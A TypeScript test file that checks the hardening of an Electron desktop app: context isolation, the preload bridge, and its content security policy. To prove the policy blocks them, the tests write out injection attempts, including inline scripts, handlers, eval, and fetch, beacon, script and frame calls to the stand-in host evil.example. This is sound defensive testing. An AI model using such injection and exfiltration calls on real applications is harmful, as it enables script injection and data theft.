import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { temporaryFolder } from './folder.ts'
import { announceKind, type Desktop, launchDesktop, withoutServers } from './launch.ts'

// Past the test runner's own capture, so that nobody can overlook it.
process.stderr.write(`\n${announceKind()}\n`)

const folder = temporaryFolder()
let desktop: Desktop

beforeAll(async () => {
  desktop = await launchDesktop({ dataFolder: await folder.path, environment: withoutServers })
})
afterAll(async () => {
  await desktop?.kill()
  await folder.remove()
})

describe('the page', () => {
  test('opens and reaches main over its port', async () => {
    await desktop.page.getByRole('radiogroup', { name: 'Environment' }).waitFor()
  })

  test('is ours by address and by origin', async () => {
    const address = await desktop.inMain(({ BrowserWindow }) => {
      const { mainFrame } = BrowserWindow.getAllWindows()[0].webContents
      return { url: mainFrame.url.replace(/#.*/, ''), origin: mainFrame.origin }
    })
    expect(address).toEqual({ url: 'app://basepair/', origin: 'app://basepair' })
  })

  test('is a secure context', async () => {
    expect(await desktop.page.evaluate(() => isSecureContext)).toBe(true)
  })

  test('has nothing of Node', async () => {
    const kinds = await desktop.page.evaluate(() =>
      ['require', 'process', 'Buffer', 'module', 'exports', 'global', '__dirname', 'setImmediate', 'electron', 'ipcRenderer'].filter(
        (name) => name in globalThis,
      ),
    )
    expect(kinds).toEqual([])
  })

  test('gets the platform from the preload script and nothing else', async () => {
    const exposed = await desktop.page.evaluate(() => {
      const walk = (value: unknown): unknown => {
        if (typeof value === 'function') return 'function'
        if (typeof value !== 'object' || value === null) return typeof value
        return Object.fromEntries(Reflect.ownKeys(value).map((key) => [String(key), walk(Reflect.get(value, key))]))
      }
      return walk(window.basepair)
    })
    expect(exposed).toEqual({ platform: 'string' })
    expect(await desktop.page.evaluate(() => window.basepair?.platform)).toBe(process.platform)
  })

  test('cannot change what it got, and sees none of the preload script', async () => {
    const outcome = await desktop.page.evaluate(() => {
      const before = window.basepair
      Reflect.set(window, 'basepair', { platform: 'mine' })
      if (before) Reflect.set(before, 'platform', 'mine')
      return { platform: window.basepair?.platform, lines: ['lineChannel', 'host', 'contextBridge'].filter((name) => name in globalThis) }
    })
    expect(outcome).toEqual({ platform: process.platform, lines: [] })
  })

  test('runs with every preference of the checklist set', async () => {
    const preferences = await desktop.inMain(({ BrowserWindow }) => {
      const { contextIsolation, sandbox, nodeIntegration, webviewTag, webSecurity } =
        BrowserWindow.getAllWindows()[0].webContents.getLastWebPreferences()
      return { contextIsolation, sandbox, nodeIntegration, webviewTag, webSecurity }
    })
    expect(preferences).toEqual({ contextIsolation: true, sandbox: true, nodeIntegration: false, webviewTag: false, webSecurity: true })
  })

  test('overwriting what the language gives it does not reach the preload script', async () => {
    const answered = await desktop.page.evaluate(async () => {
      const { port1, port2 } = new MessageChannel()
      const { postMessage } = MessagePort.prototype
      const original = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'ports')
      const taken: string[] = []
      MessagePort.prototype.postMessage = function (this: MessagePort, ...given: unknown[]) {
        if (this === port2) taken.push('postMessage')
        return Reflect.apply(postMessage, this, given)
      }
      Object.defineProperty(MessageEvent.prototype, 'ports', {
        configurable: true,
        get() {
          taken.push('ports')
          return []
        },
      })
      const answer = new Promise((resolve) => {
        port1.onmessage = ({ data }) => resolve(String(data))
      })
      window.postMessage('basepair:line', location.origin, [port2])
      Reflect.apply(postMessage, port1, [JSON.stringify({ i: '1', p: { u: '/settings/read', b: {} } })])
      const text = await answer
      MessagePort.prototype.postMessage = postMessage
      if (original) Object.defineProperty(MessageEvent.prototype, 'ports', original)
      return { taken, kind: typeof text }
    })
    expect(answered).toEqual({ taken: [], kind: 'string' })
  })
})

describe('the content security policy', () => {
  /** Does something in the page, and gives the directives that it violated. */
  const violations = (attempt: string) =>
    desktop.page.evaluate(async (source) => {
      const violated: string[] = []
      const listen = (event: SecurityPolicyViolationEvent) => violated.push(event.effectiveDirective)
      document.addEventListener('securitypolicyviolation', listen)
      const attempts: Record<string, () => unknown> = {
        'inline script': () => {
          const script = document.createElement('script')
          script.textContent = 'window.injected = true'
          document.body.append(script)
        },
        'inline handler': () => {
          const image = document.createElement('img')
          image.setAttribute('onerror', 'window.injected = true')
          image.src = '/nowhere.png'
          document.body.append(image)
        },
        eval: () => new Function('window.injected = true')(),
        'javascript: link': () => {
          const link = document.createElement('a')
          link.href = 'javascript:window.injected = true'
          document.body.append(link)
          link.click()
          link.remove()
        },
        'remote script': () => {
          const script = document.createElement('script')
          Reflect.set(script, 'src', 'https://evil.example/x.js')
          document.body.append(script)
        },
        'remote image': () => {
          new Image().src = 'https://evil.example/x.png'
        },
        'remote fetch': () => fetch('https://evil.example/').catch(() => undefined),
        beacon: () => navigator.sendBeacon('https://evil.example/', 'x'),
        'socket of another site': () => new WebSocket('wss://evil.example/'),
        'frame of another site': () => {
          const frame = document.createElement('iframe')
          frame.src = 'https://evil.example/'
          document.body.append(frame)
        },
        'frame of our own': () => {
          const frame = document.createElement('iframe')
          frame.src = '/'
          document.body.append(frame)
        },
        worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
        object: () => {
          const object = document.createElement('object')
          object.setAttribute('data', 'https://evil.example/x.swf')
          document.body.append(object)
        },
        'base address': () => {
          const base = document.createElement('base')
          base.href = 'https://evil.example/'
          document.head.append(base)
        },
        'style without the nonce': () => {
          const style = document.createElement('style')
          style.append('body { outline: 1px solid }')
          document.head.append(style)
        },
      }
      // In a task of its own: the protocol that the test speaks lifts parts of the policy for as long as its own call runs.
      await new Promise<void>((resolve) => {
        setTimeout(async () => {
          try {
            await attempts[source]?.()
          } catch {
            // What throws was refused as well; the violation says why.
          }
          resolve()
        })
      })
      await new Promise((resolve) => setTimeout(resolve, 150))
      document.removeEventListener('securitypolicyviolation', listen)
      return { violated: [...new Set(violated)], injected: 'injected' in window }
    }, attempt)

  test.each([
    ['inline script', ['script-src-elem', 'require-trusted-types-for']],
    ['inline handler', ['script-src-attr', 'require-trusted-types-for']],
    ['eval', ['script-src', 'require-trusted-types-for']],
    ['javascript: link', ['script-src-elem', 'require-trusted-types-for']],
    ['remote script', ['script-src-elem', 'require-trusted-types-for']],
    ['remote image', ['img-src']],
    ['remote fetch', ['connect-src']],
    ['beacon', ['connect-src']],
    ['socket of another site', ['connect-src']],
    ['frame of another site', ['frame-src']],
    ['frame of our own', ['frame-src']],
    ['worker', ['worker-src', 'require-trusted-types-for']],
    ['object', ['object-src', 'require-trusted-types-for']],
    ['base address', ['base-uri']],
    ['style without the nonce', ['style-src-elem']],
  ])('blocks: %s', async (attempt, expected) => {
    const { violated, injected } = await violations(attempt)
    expect(injected).toBe(false)
    expect(violated.length, `${attempt} violated nothing`).toBeGreaterThan(0)
    for (const directive of violated) expect(expected).toContain(directive)
  })

  test('lets no text become markup', async () => {
    const outcome = await desktop.page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<b id="injected">x</b>')
        return 'injected'
      } catch (error) {
        return String(error)
      }
    })
    expect(outcome).toContain('refuses markup')
  })
})
